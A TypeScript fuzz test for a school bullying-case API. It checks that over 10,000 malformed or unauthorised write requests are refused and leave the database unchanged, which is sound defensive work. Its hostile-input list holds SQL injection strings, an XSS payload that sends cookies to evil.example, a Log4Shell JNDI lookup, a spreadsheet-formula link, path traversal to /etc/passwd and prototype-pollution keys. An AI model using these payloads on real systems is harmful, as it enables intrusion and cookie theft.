// Fuzzing the write endpoints (issue 5 item 6): fast-check throws at least 10,000 random and
// hostile requests — wrong types, missing fields, huge strings, `__proto__`/`constructor` keys,
// SQL and HTML in every text, invalid and DST-gap dates, NUL characters, unknown ids and ids of
// other schools' pupils, people and cases, malformed JSON, wrong content types, callers without
// the right — at every write operation of the OpenAPI document. Every request carries at least
// one defect that must refuse it, so the property is: no 5xx, never a 2xx, and the database is
// exactly as it was (every table but the audit log and the sessions' last use). One database,
// in-process `app.request`, the requests of a batch side by side.
import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { TransactionRollbackError, and, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDb, deadlines, people, roles, type Db, type DbHandle } from '@trygg/db';
import { seedSchool, type SeededSchool } from '@trygg/testing';
import { createApp } from './app';
import { sessionCookie } from './session';
import { switchableDb } from './switchable-db';
import { SECRET, createTestApp, osloDate, type TestApp } from './test-support';

const RUNS = 200;
const BATCH = 50;
const PARALLEL = 8;

let x: TestApp;
let pool: DbHandle;
let db: Db;
let app: ReturnType<typeof createApp>;
let o2: SeededSchool;
let w: {
  caseA: string;
  caseB: string;
  caseC: string;
  deadlineKeyA: string;
  leaderC: string;
  teacherC: string;
  pupilC: string;
  teacherB: string;
};
const cookies = new Map<string, string>();

type Actor = 'principal' | 'teacher' | 'admin' | 'owner' | 'otherPrincipal' | 'foreignOwner' | 'anonymous';
const actorId = (a: Actor): string | null =>
  ({
    principal: x.s.principal,
    teacher: x.s.teacher,
    admin: x.s.admin,
    owner: x.s.ownerOfficial,
    otherPrincipal: x.s.otherPrincipal,
    foreignOwner: o2.ownerOfficial,
    anonymous: null,
  })[a];

// ---- hostile values ----

const SQL_HTML = [
  "'; DROP TABLE cases; --",
  "' OR '1'='1",
  "1; SELECT pg_sleep(10); --",
  "Robert'); DELETE FROM audit_log; --",
  '"; TRUNCATE pupils CASCADE; --',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
  '=HYPERLINK("http://evil.example","klikk")',
  '../../../../etc/passwd',
  '\u202eesrever',
  'Ærlig talt: øl og å — «sitat»',
  '😀'.repeat(40),
  '%00%27%22',
];
const hostileText = fc.oneof(fc.constantFrom(...SQL_HTML), fc.string({ minLength: 1, maxLength: 60, unit: 'grapheme' }));
const hugeText = fc
  .tuple(fc.integer({ min: 100_000, max: 300_000 }), fc.constantFrom(...SQL_HTML))
  .map(([n, s]) => s.repeat(Math.ceil(n / s.length)).slice(0, n));
const BAD_DATES = [
  '2026-03-29T02:30', // the spring-forward gap: does not exist in Oslo
  '2026-03-29T02:00',
  '2027-03-28T02:15',
  '2026-02-30T10:00',
  '2026-13-01T10:00',
  '2026-04-31T09:00',
  '2026-04-14T24:30',
  '2026-04-14T10:61',
  '0000-00-00T00:00',
  '2026-04-14',
  'i morgen',
  "2026-04-14T10:00'; --",
];
const BAD_DAYS = ['2026-02-30', '2026-13-01', '2026-04-31', '2026-3-1', '29.03.2026', "2026-04-14'--"];
const MALFORMED_IDS = ["1' OR '1'='1", '../../etc/passwd', '%3Cscript%3E', '00000000-0000-0000-0000-00000000000g', 'null', '__proto__'];
const EXTRA_KEYS = ['__proto__', 'constructor', 'prototype', 'isAdmin', 'toString', 'hasOwnProperty', '$where', 'personId\u0000'];

// ---- the write operations, each with a valid request to spoil ----

type Json = Record<string, unknown>;
interface Spec {
  op: string;
  actor: Actor;
  path: () => string;
  /** The valid body; absent: the operation takes none. */
  body?: () => Json;
  required?: string[];
  /** Top-level text fields. */
  texts?: string[];
  /** Instant or date fields (top level). */
  dates?: string[];
  days?: string[];
  /** Id fields and an id there that must be refused (another school's, or nobody's). */
  ids?: Record<string, () => string>;
  /** Paths that must be refused. */
  badPaths?: (() => string)[];
  /** Callers that must be refused. */
  badActors?: Actor[];
  csv?: boolean;
}

const caseAction = (suffix: string, actor: Actor, extra: Partial<Spec> = {}): Spec => ({
  op: `POST /api/cases/{id}${suffix}`,
  actor,
  path: () => `/api/cases/${w.caseA}${suffix}`,
  badPaths: [
    () => `/api/cases/${randomUUID()}${suffix}`,
    () => `/api/cases/${w.caseB}${suffix}`,
    () => `/api/cases/${w.caseC}${suffix}`,
    ...MALFORMED_IDS.map((m) => () => `/api/cases/${encodeURIComponent(m)}${suffix}`),
  ],
  badActors: ['anonymous', 'teacher', 'otherPrincipal', 'admin', 'foreignOwner'],
  ...extra,
});

const SPECS: Spec[] = [
  {
    op: 'POST /api/reports',
    actor: 'teacher',
    path: () => '/api/reports',
    body: () => ({
      schoolId: x.s.schoolId,
      pupilId: x.s.pupil,
      basis: 'suspicion',
      category: 'bullying',
      description: 'Eleven blir holdt utenfor.',
      intervened: true,
      intervention: 'Snakket med dem.',
      concernsEmployee: true,
      accusedPersonId: x.s.leader,
      reportedAt: '2026-04-14T08:00',
      occurredAt: '2026-04-13T12:00+02:00',
    }),
    required: ['schoolId', 'pupilId', 'basis', 'category', 'description', 'intervened'],
    texts: ['description', 'intervention'],
    dates: ['reportedAt', 'occurredAt'],
    ids: {
      pupilId: () => x.s.pupilOfOtherSchool,
      accusedPersonId: () => w.teacherC,
      schoolId: () => o2.schoolId,
    },
    badActors: ['anonymous', 'admin', 'owner', 'foreignOwner'],
  },
  {
    op: 'POST /api/owners',
    actor: 'admin',
    path: () => '/api/owners',
    body: () => ({ name: 'Fjord kommune', language: 'nn', digestRecipientIds: [x.s.ownerOfficial], nonSchoolDays: [{ from: '2026-10-05', to: '2026-10-09', label: 'Haustferie' }] }),
    required: ['name'],
    texts: ['name'],
    ids: { secondContactId: () => x.s.teacher, digestRecipientIds: () => x.s.principal },
    badActors: ['anonymous', 'owner', 'principal', 'teacher'],
  },
  {
    op: 'PATCH /api/owners/{ownerId}',
    actor: 'owner',
    path: () => `/api/owners/${x.s.ownerId}`,
    body: () => ({ name: 'Eik kommune' }),
    texts: ['name'],
    ids: { secondContactId: () => w.teacherB, digestRecipientIds: () => o2.ownerOfficial },
    badPaths: [() => `/api/owners/${o2.ownerId}`, () => `/api/owners/${randomUUID()}`, ...MALFORMED_IDS.map((m) => () => `/api/owners/${encodeURIComponent(m)}`)],
    badActors: ['anonymous', 'principal', 'teacher', 'foreignOwner'],
  },
  {
    op: 'POST /api/schools',
    actor: 'owner',
    path: () => '/api/schools',
    body: () => ({ ownerId: x.s.ownerId, name: 'Ny skole', conversationDueDates: { autumn: '12-01', spring: '05-01' } }),
    required: ['ownerId', 'name'],
    texts: ['name'],
    ids: { ownerId: () => o2.ownerId },
    badActors: ['anonymous', 'principal', 'teacher', 'foreignOwner'],
  },
  {
    op: 'POST /api/people',
    actor: 'owner',
    path: () => '/api/people',
    body: () => ({ name: 'Ny Person', email: `ny.${randomUUID()}@example.test`, kind: 'staff', schoolRoles: [{ schoolId: x.s.schoolId, role: 'staff' }] }),
    required: ['name', 'email'],
    texts: ['name'],
    badActors: ['anonymous', 'principal', 'teacher', 'foreignOwner'],
  },
  {
    op: 'POST /api/roles',
    actor: 'owner',
    path: () => '/api/roles',
    body: () => ({ personId: w.teacherC, schoolId: x.s.schoolId, role: 'leader' }),
    required: ['personId', 'schoolId', 'role'],
    ids: { schoolId: () => o2.schoolId },
    badActors: ['anonymous', 'principal', 'teacher', 'foreignOwner'],
  },
  {
    op: 'POST /api/pupils',
    actor: 'teacher',
    path: () => '/api/pupils',
    body: () => ({ schoolId: x.s.schoolId, name: 'Ny Elev', birthYear: 2016, contactTeacherId: x.s.teacher, heightenedAttention: true }),
    required: ['schoolId', 'name', 'birthYear'],
    texts: ['name'],
    ids: { schoolId: () => o2.schoolId, contactTeacherId: () => w.teacherC },
    badActors: ['anonymous', 'admin', 'owner', 'otherPrincipal'],
  },
  {
    op: 'POST /api/schools/{schoolId}/pupils/import',
    actor: 'principal',
    path: () => `/api/schools/${x.s.schoolId}/pupils/import`,
    csv: true,
    badPaths: [() => `/api/schools/${o2.schoolId}/pupils/import`, () => `/api/schools/${randomUUID()}/pupils/import`],
    badActors: ['anonymous', 'teacher', 'owner', 'otherPrincipal'],
  },
  {
    op: 'POST /api/pupils/{pupilId}/conversations',
    actor: 'teacher',
    path: () => `/api/pupils/${x.s.pupil}/conversations`,
    body: () => ({ heldAt: '2026-04-14T09:00', answer: 'no', note: 'Eleven er redd.', category: 'bullying' }),
    required: ['answer'],
    texts: ['note'],
    dates: ['heldAt'],
    badPaths: [
      () => `/api/pupils/${x.s.pupilOfOtherSchool}/conversations`,
      () => `/api/pupils/${w.pupilC}/conversations`,
      () => `/api/pupils/${randomUUID()}/conversations`,
      ...MALFORMED_IDS.map((m) => () => `/api/pupils/${encodeURIComponent(m)}/conversations`),
    ],
    badActors: ['anonymous', 'admin', 'owner', 'otherPrincipal'],
  },
  // The case actions, on a reported case of school A.
  caseAction('/acknowledge', 'principal'),
  caseAction('/serious', 'principal'),
  caseAction('/principal-knows', 'principal', { body: () => ({ at: '2026-04-14T08:00' }), dates: ['at'] }),
  caseAction('/delegate', 'principal', { body: () => ({ leaderId: x.s.leader }), required: ['leaderId'], ids: { leaderId: () => w.leaderC } }),
  caseAction('/start-investigation', 'principal', { body: () => ({ at: '2026-04-14T09:30', delayReason: 'Syk.' }), dates: ['at'], texts: ['delayReason'] }),
  caseAction('/conclude-investigation', 'principal', {
    body: () => ({ measuresNeeded: true, conclusion: 'Tiltak trengs.' }),
    required: ['measuresNeeded', 'conclusion'],
    texts: ['conclusion'],
    dates: ['at'],
  }),
  caseAction('/owner-notice', 'principal', { body: () => ({ about: 'serious' }) }),
  caseAction('/close', 'principal', { body: () => ({ pupilSituationSafe: true, reason: 'Trygt.' }), required: ['pupilSituationSafe', 'reason'], texts: ['reason'] }),
  caseAction('/reopen', 'principal', { body: () => ({ reason: 'Nytt.' }), required: ['reason'], texts: ['reason'] }),
  {
    ...caseAction('/deadlines/{key}/delay-reason', 'principal', { body: () => ({ reason: 'Syk.' }), required: ['reason'], texts: ['reason'] }),
    path: () => `/api/cases/${w.caseA}/deadlines/${encodeURIComponent(w.deadlineKeyA)}/delay-reason`,
    badPaths: [
      () => `/api/cases/${w.caseA}/deadlines/${encodeURIComponent('nope')}/delay-reason`,
      () => `/api/cases/${w.caseC}/deadlines/${encodeURIComponent(w.deadlineKeyA)}/delay-reason`,
      () => `/api/cases/${randomUUID()}/deadlines/x/delay-reason`,
    ],
  },
  caseAction('/investigation/steps', 'principal', {
    body: () => ({ kind: 'conversation_with_pupil', performedById: x.s.teacher, summary: 'Samtale.', otherPupilIds: [x.s.otherPupil] }),
    required: ['kind', 'performedById', 'summary'],
    texts: ['summary'],
    dates: ['at'],
    ids: { performedById: () => w.teacherC },
  }),
  caseAction('/investigation/findings', 'principal', { body: () => ({ text: 'Funn.' }), required: ['text'], texts: ['text'] }),
  caseAction('/investigation/best-interest', 'principal', { body: () => ({ text: 'Vurdering.' }), required: ['text'], texts: ['text'] }),
  caseAction('/plans', 'principal', {
    body: () => ({
      problem: 'Problemet.',
      measures: [{ level: 'individual', description: 'Tiltak.', start: '2026-04-20', end: '2026-05-29', responsible: [x.s.teacher], evaluationDate: '2026-05-04' }],
      pupilView: 'Bra.',
    }),
    texts: ['problem', 'pupilView'],
  }),
  caseAction('/evaluations', 'principal', {
    body: () => ({
      plannedDate: '2026-05-04',
      measures: [{ measureId: randomUUID(), howCarriedOut: 'Slik.', effect: 'Bra.' }],
      pupilView: 'Bedre.',
      situationSafe: false,
      decision: 'continue',
      nextEvaluationOn: '2026-06-01',
    }),
    required: ['plannedDate', 'measures', 'pupilView', 'situationSafe', 'decision'],
    texts: ['pupilView'],
    days: ['plannedDate', 'nextEvaluationOn'],
  }),
  caseAction('/external-bodies', 'principal', {
    body: () => ({ kind: 'ppt', name: 'PPT Testvik', involvement: 'Drøftet saken.', contactedOn: '2026-04-13', concernsOtherPupils: false }),
    required: ['kind', 'involvement', 'contactedOn'],
    texts: ['name', 'involvement'],
    days: ['contactedOn'],
  }),
  {
    op: 'POST /api/acknowledgements/{token}',
    actor: 'anonymous',
    path: () => `/api/acknowledgements/${'A'.repeat(43)}`,
    badPaths: [() => `/api/acknowledgements/${'B'.repeat(43)}`, ...MALFORMED_IDS.map((m) => () => `/api/acknowledgements/${encodeURIComponent(m)}`)],
  },
];
/** Writes that are not fuzzed, and why. */
const NOT_FUZZED: Record<string, string> = {
  'POST /api/logout': 'ends the caller’s own session; takes no input',
  'POST /api/auth/logout': 'ends the caller’s own session; takes no input',
};

// ---- spoiling a valid request ----

interface Req {
  op: string;
  actor: Actor;
  method: string;
  path: string;
  body?: string;
  contentType?: string;
  defects: string[];
}

const wrongTypeFor = (value: unknown) =>
  typeof value === 'string'
    ? fc.constantFrom<unknown>(42, -1.5, true, [], {}, ['a'], { a: 1 })
    : typeof value === 'number'
      ? fc.constantFrom<unknown>('2016', true, [], {}, 1e308, -2016)
      : typeof value === 'boolean'
        ? fc.constantFrom<unknown>('true', 1, 0, [], {})
        : Array.isArray(value)
          ? fc.constantFrom<unknown>('x', 1, {}, true)
          : fc.constantFrom<unknown>('x', 1, [], true);

/** One defect that must make the request refused, for this operation. */
function defectArb(spec: Spec): fc.Arbitrary<(r: { path: string; actor: Actor; body: Json | undefined; raw?: string; contentType?: string }) => string> {
  const options: fc.Arbitrary<(r: { path: string; actor: Actor; body: Json | undefined; raw?: string; contentType?: string }) => string>[] = [];
  if (spec.badPaths?.length) options.push(fc.integer({ min: 0, max: spec.badPaths.length - 1 }).map((i) => (r) => ((r.path = spec.badPaths![i]!()), 'bad path')));
  if (spec.badActors?.length) options.push(fc.constantFrom(...spec.badActors).map((a) => (r) => ((r.actor = a), `actor ${a}`)));
  const base = spec.body?.();
  if (base) {
    const fields = Object.keys(base);
    options.push(
      fc
        .tuple(fc.constantFrom(...fields), fc.nat())
        .chain(([f]) => wrongTypeFor(base[f]).map((v) => (r: { body: Json | undefined }) => ((r.body![f] = v), `wrong type ${f}`))),
    );
    options.push(
      fc.tuple(fc.constantFrom(...EXTRA_KEYS), fc.jsonValue({ maxDepth: 2 })).map(([k, v]) => (r) => {
        // Written into the JSON text itself: an own "__proto__" key, as an attacker would send it.
        const text = JSON.stringify(r.body);
        r.raw = `{${JSON.stringify(k)}:${JSON.stringify(v ?? { polluted: true })}${text.length > 2 ? ',' : ''}${text.slice(1)}`;
        return `extra key ${k}`;
      }),
    );
    options.push(fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'text/html', 'multipart/form-data; boundary=x').map((t) => (r) => ((r.contentType = t), `content type ${t}`)));
    options.push(fc.constantFrom('{"a":', '{"schoolId":"x",}', "{'a':1}", '\u0000', '[1,2', 'NaN').map((t) => (r) => ((r.raw = t), 'malformed JSON')));
    if (spec.required?.length) {
      options.push(fc.constantFrom(...spec.required).map((f) => (r) => (delete r.body![f], `missing ${f}`)));
      options.push(
        fc.oneof(fc.string(), fc.integer(), fc.constant(null), fc.array(fc.anything({ maxDepth: 1 }), { maxLength: 3 }), fc.object({ maxDepth: 2 })).map((junk) => (r) => {
          r.raw = JSON.stringify(junk) ?? 'null';
          return 'junk body';
        }),
      );
    }
    if (spec.texts?.length) {
      options.push(fc.tuple(fc.constantFrom(...spec.texts), hugeText).map(([f, t]) => (r) => ((r.body![f] = t), `huge ${f} (${t.length})`)));
      options.push(fc.tuple(fc.constantFrom(...spec.texts), hostileText).map(([f, t]) => (r) => ((r.body![f] = `${t}\u0000${t}`), `NUL in ${f}`)));
    }
    if (spec.dates?.length) options.push(fc.tuple(fc.constantFrom(...spec.dates), fc.constantFrom(...BAD_DATES)).map(([f, d]) => (r) => ((r.body![f] = d), `date ${f}=${d}`)));
    if (spec.days?.length) options.push(fc.tuple(fc.constantFrom(...spec.days), fc.constantFrom(...BAD_DAYS)).map(([f, d]) => (r) => ((r.body![f] = d), `day ${f}=${d}`)));
    if (spec.ids) {
      const fields = Object.keys(spec.ids);
      options.push(
        fc.tuple(fc.constantFrom(...fields), fc.boolean()).map(([f, unknown]) => (r) => {
          const id = unknown ? randomUUID() : spec.ids![f]!();
          r.body![f] = Array.isArray(base[f]) ? [id] : id;
          return `${unknown ? 'unknown' : 'refused'} id ${f}`;
        }),
      );
      options.push(fc.tuple(fc.constantFrom(...fields), fc.constantFrom(...MALFORMED_IDS)).map(([f, m]) => (r) => ((r.body![f] = m), `malformed id ${f}`)));
    }
  }
  if (spec.csv) {
    options.push(
      fc.constantFrom('Ola;Nordmann;18xx', 'Kari;;2015', ';;', 'Per;Sand;2015;5A;;12345678901', '"Åse;"Lie;2016').map((line) => (r) => {
        r.raw = `${r.raw}${line}\n`;
        return `bad CSV line ${line}`;
      }),
    );
    options.push(fc.constant((r) => ((r.raw = `${r.raw}${'x;'.repeat(600_000)}\n`), 'CSV over 1 MB')));
    options.push(fc.constant((r) => ((r.contentType = 'application/json'), 'CSV as JSON')));
  }
  return fc.oneof(...options);
}

/** Text fields of the valid body get hostile (but allowed) content as well. */
function decorate(spec: Spec, body: Json, texts: string[]): void {
  (spec.texts ?? []).forEach((f, i) => {
    if (typeof body[f] === 'string' && texts[i] !== undefined && texts[i]!.trim() !== '') body[f] = texts[i];
  });
}

const requestArb: fc.Arbitrary<Req> = fc.integer({ min: 0, max: SPECS.length - 1 }).chain((i) => {
  const spec = SPECS[i]!;
  return fc
    .tuple(fc.array(defectArb(spec), { minLength: 1, maxLength: 3 }), fc.array(hostileText, { minLength: 2, maxLength: 2 }), fc.array(hostileText, { minLength: 1, maxLength: 3 }))
    .map(([defects, texts, csvNames]) => {
      const body = spec.body?.();
      if (body) decorate(spec, body, texts);
      const r: { path: string; actor: Actor; body: Json | undefined; raw?: string; contentType?: string } = {
        path: spec.path(),
        actor: spec.actor,
        body,
        ...(spec.csv
          ? { raw: `Fornavn;Etternavn;Fødselsår\n${csvNames.map((n) => `${n.replace(/[;\n\r"]/g, ' ').trim() || 'Ola'};Hansen;2015`).join('\n')}\n`, contentType: 'text/csv' }
          : {}),
      };
      let names = defects.map((d) => d(r));
      // Two defects can cancel out: another school's case (or owner, or school id) with that
      // school's own people as the caller. Then the caller stays the valid one.
      if (names.some((n) => n.startsWith('actor')) && names.some((n) => n === 'bad path' || n.startsWith('refused id'))) {
        r.actor = spec.actor;
        names = names.filter((n) => !n.startsWith('actor'));
      }
      const payload = r.raw ?? (r.body ? JSON.stringify(r.body) : undefined);
      const req: Req = {
        op: spec.op,
        actor: r.actor,
        method: spec.op.split(' ')[0]!,
        path: r.path,
        ...(payload !== undefined ? { body: payload, contentType: r.contentType ?? 'application/json' } : r.contentType ? { contentType: r.contentType } : {}),
        defects: names,
      };
      // fast-check prints counterexamples: the operation and its defects, not 300 kB of text.
      return Object.assign(req, { [fc.toStringMethod]: () => `${req.op} as ${req.actor} (${req.defects.join('; ')})` });
    });
});

// ---- running ----

let tablesSql: ReturnType<typeof sql.raw>;
async function fingerprint(): Promise<string> {
  const rows = (await db.execute(tablesSql)) as unknown as { t: string; h: string }[];
  return rows.map((r) => `${r.t}:${r.h}`).join(' ');
}

async function send(req: Req): Promise<{ status: number; text: string }> {
  const headers: Record<string, string> = {};
  const id = actorId(req.actor);
  if (id) headers['cookie'] = cookies.get(id)!;
  if (req.contentType) headers['content-type'] = req.contentType;
  const res = await app.request(req.path, { method: req.method, headers, ...(req.body !== undefined ? { body: req.body } : {}) });
  return { status: res.status, text: (await res.text()).slice(0, 300) };
}

beforeAll(async () => {
  x = await createTestApp();
  pool = createDb(x.t.url, { max: PARALLEL + 4 });
  db = pool.db;
  o2 = await seedSchool(x.t.db);
  x.clock.now = osloDate('2026-04-14T10:00');
  const file = async (as: string, schoolId: string, pupilId: string) => {
    const res = await x.as(as).post('/api/reports', { schoolId, pupilId, basis: 'suspicion', category: 'bullying', description: 'Melding.', intervened: false });
    expect(res.status).toBe(201);
    return res.body.caseId as string;
  };
  const [teacherB] = await x.t.db.insert(people).values({ name: 'Berit Lærer', email: `berit.${randomUUID()}@example.test` }).returning();
  await x.t.db.insert(roles).values({ personId: teacherB!.id, role: 'staff', schoolId: x.s.otherSchoolId });
  const caseA = await file(x.s.teacher, x.s.schoolId, x.s.pupil);
  const [d] = await x.t.db
    .select({ key: deadlines.key })
    .from(deadlines)
    .where(and(eq(deadlines.caseId, caseA), eq(deadlines.kind, 'acknowledge_report')));
  w = {
    caseA,
    caseB: await file(teacherB!.id, x.s.otherSchoolId, x.s.pupilOfOtherSchool),
    caseC: await file(o2.teacher, o2.schoolId, o2.pupil),
    deadlineKeyA: d!.key,
    leaderC: o2.leader,
    teacherC: o2.teacher,
    pupilC: o2.pupil,
    teacherB: teacherB!.id,
  };
  app = createApp({ db, clock: () => x.clock.now, sessionSecret: SECRET, appUrl: 'http://127.0.0.1:5173/', log: { error: () => {} } });
  for (const a of ['principal', 'teacher', 'admin', 'owner', 'otherPrincipal', 'foreignOwner'] as const) {
    cookies.set(actorId(a)!, await sessionCookie(x.t.db, actorId(a)!, x.clock.now));
  }
  const tables = (await db.execute(
    sql`select tablename from pg_tables where schemaname = 'public' and tablename not in ('audit_log', 'sessions') order by 1`,
  )) as unknown as { tablename: string }[];
  tablesSql = sql.raw(
    tables.map((t) => `select '${t.tablename}' as t, md5(coalesce(string_agg(x::text, '|' order by x::text), '')) as h from "${t.tablename}" x`).join(' union all '),
  );
}, 120_000);
afterAll(async () => {
  await pool?.close();
  await x?.drop();
});

describe('fuzzing the write endpoints', () => {
  it('fuzzes every write operation of the OpenAPI document', async () => {
    const doc = (await (await app.request('/api/openapi.json')).json()) as { paths: Record<string, Record<string, unknown>> };
    const writes = Object.entries(doc.paths).flatMap(([p, ops]) =>
      Object.keys(ops)
        .filter((m) => ['post', 'patch', 'put', 'delete'].includes(m))
        .map((m) => `${m.toUpperCase()} ${p}`),
    );
    const fuzzed = new Set(SPECS.map((s) => s.op));
    expect(writes.filter((op) => !fuzzed.has(op) && !(op in NOT_FUZZED))).toEqual([]);
  });

  it(`${RUNS * BATCH} hostile requests: no 5xx, no 2xx, nothing written`, async () => {
    const before = await fingerprint();
    const prototypeKeys = Object.getOwnPropertyNames(Object.prototype).sort().join();
    const statuses = new Map<number, number>();
    let sent = 0;
    const started = performance.now();
    await fc.assert(
      fc.asyncProperty(fc.array(requestArb, { minLength: BATCH, maxLength: BATCH }), async (batch) => {
        const answers: { req: Req; status: number; text: string }[] = [];
        for (let i = 0; i < batch.length; i += PARALLEL) {
          const slice = batch.slice(i, i + PARALLEL);
          answers.push(...(await Promise.all(slice.map(async (req) => ({ req, ...(await send(req)) })))));
        }
        sent += batch.length;
        for (const a of answers) statuses.set(a.status, (statuses.get(a.status) ?? 0) + 1);
        const wrong = answers.filter((a) => a.status >= 500 || a.status < 400);
        if (wrong.length) {
          throw new Error(
            wrong
              .slice(0, 5)
              .map((a) => `${a.status} ${a.req.op} as ${a.req.actor} (${a.req.defects.join('; ')}): ${a.req.method} ${a.req.path} ${(a.req.body ?? '').slice(0, 200)} → ${a.text}`)
              .join('\n'),
          );
        }
        const after = await fingerprint();
        if (after !== before) {
          const changed = after.split(' ').filter((t) => !before.includes(t)).map((t) => t.split(':')[0]);
          throw new Error(`written: ${changed.join(', ')} by one of ${batch.map((r) => `${r.op} (${r.defects.join('; ')})`).join(' | ')}`);
        }
      }),
      { numRuns: RUNS, endOnFailure: true },
    );
    const seconds = ((performance.now() - started) / 1000).toFixed(1);
    console.log(
      `fuzz: ${sent} requests in ${seconds} s at ${SPECS.length} write operations — statuses ${[...statuses]
        .sort((a, b) => a[0] - b[0])
        .map(([s, n]) => `${s}×${n}`)
        .join(', ')}`,
    );
    expect(sent).toBeGreaterThanOrEqual(10_000);
    // No "__proto__" key reached a prototype.
    expect(Object.getOwnPropertyNames(Object.prototype).sort().join()).toBe(prototypeKeys);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  }, 600_000);

  it('stores SQL, HTML and any other text it accepts verbatim, and answers with it unchanged (300 reports, rolled back)', async () => {
    const lane = switchableDb(db);
    const laneApp = createApp({ db: lane.db, clock: () => x.clock.now, sessionSecret: SECRET, appUrl: 'http://127.0.0.1:5173/', log: { error: () => {} } });
    const call = async (as: string, method: string, path: string, body?: unknown) => {
      const res = await laneApp.request(path, {
        method,
        headers: { cookie: cookies.get(as)!, ...(body ? { 'content-type': 'application/json' } : {}) },
        ...(body ? { body: JSON.stringify(body) } : {}),
      });
      return { status: res.status, body: (await res.json()) as any };
    };
    const before = await fingerprint();
    const allowedText = fc
      .oneof(fc.constantFrom(...SQL_HTML), fc.string({ minLength: 1, maxLength: 300, unit: 'grapheme' }), fc.string({ minLength: 1, maxLength: 100, unit: 'binary' }))
      .filter((t) => t.trim() !== '' && !t.includes('\u0000'));
    await fc.assert(
      fc.asyncProperty(allowedText, allowedText, async (description, intervention) => {
        let checked = false;
        await db
          .transaction(async (tx) => {
            lane.use(tx);
            try {
              const filed = await call(x.s.teacher, 'POST', '/api/reports', {
                schoolId: x.s.schoolId,
                pupilId: x.s.pupil,
                basis: 'knowledge',
                category: 'other',
                description,
                intervened: true,
                intervention,
              });
              expect(filed.status).toBe(201);
              const read = await call(x.s.principal, 'GET', `/api/cases/${filed.body.caseId}`);
              expect(read.status).toBe(200);
              expect(read.body.reports[0].description).toBe(description.trim());
              expect(read.body.reports[0].intervention).toBe(intervention.trim());
              checked = true;
            } finally {
              lane.use(db);
            }
            tx.rollback();
          })
          .catch((error: unknown) => {
            if (!(error instanceof TransactionRollbackError)) throw error;
          });
        expect(checked).toBe(true);
      }),
      { numRuns: 300 },
    );
    expect(await fingerprint()).toBe(before);
  }, 300_000);
});
